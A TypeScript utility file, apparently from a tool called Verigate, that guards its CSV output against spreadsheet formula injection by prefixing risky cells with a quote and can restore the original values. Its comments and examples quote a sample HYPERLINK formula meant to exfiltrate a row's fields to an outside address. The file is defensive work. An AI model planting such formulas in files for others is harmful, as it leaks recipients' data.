/**
 * Cells of the CSV files Verigate writes for people to open (response files, MATCHES.csv,
 * standardized files). A spreadsheet reads a cell that begins with `=`, `+`, `-` or `@` (or a
 * tab or carriage return before one) as a formula: a request id `=HYPERLINK("https://…?"&B2)`
 * chosen by the sender would run on the recipient's machine and could send the row's released
 * fields away. Following OWASP's CSV injection guidance, such a cell is written with a single
 * quote in front, which a spreadsheet shows as text; the cell is then quoted as RFC 4180 asks.
 *
 * Recoverable exactly: a cell that begins with `'` gets one too, so the rule back is "a cell that
 * begins with `'`: drop that one character" (`restoreCsvCell`), whatever the value was.
 */

/** The first characters that make a spreadsheet read a cell as a formula, and the quote itself. */
const NEEDS_QUOTE_PREFIX = new Set(['=', '+', '-', '@', '\t', '\r', "'"])

/**
 * The value as a spreadsheet will show it and never evaluate it: `'` in front of a value that
 * begins with `=`, `+`, `-`, `@`, a tab, a carriage return or `'`; any other value unchanged.
 *
 * @example
 * neutralizeFormula('=HYPERLINK("http://x")') // `'=HYPERLINK("http://x")`
 * neutralizeFormula('R0000042') // 'R0000042'
 */
export function neutralizeFormula(value: string): string {
  return value.length > 0 && NEEDS_QUOTE_PREFIX.has(value[0]!) ? `'${value}` : value
}

/**
 * One CSV cell: neutralized (`neutralizeFormula`), then quoted when it holds a comma, a quote or
 * a line break (RFC 4180).
 *
 * @example
 * csvCell('123 MAIN ST, HOUSTON') // '"123 MAIN ST, HOUSTON"'
 * csvCell('-1+1') // "'-1+1"
 */
export function csvCell(value: string): string {
  const safe = neutralizeFormula(value)
  return /[",\r\n]/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe
}

/**
 * The value a cell written by `csvCell` (once unquoted by a CSV reader) stood for.
 *
 * @example
 * restoreCsvCell(`'=HYPERLINK("http://x")`) // '=HYPERLINK("http://x")'
 */
export function restoreCsvCell(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell
}
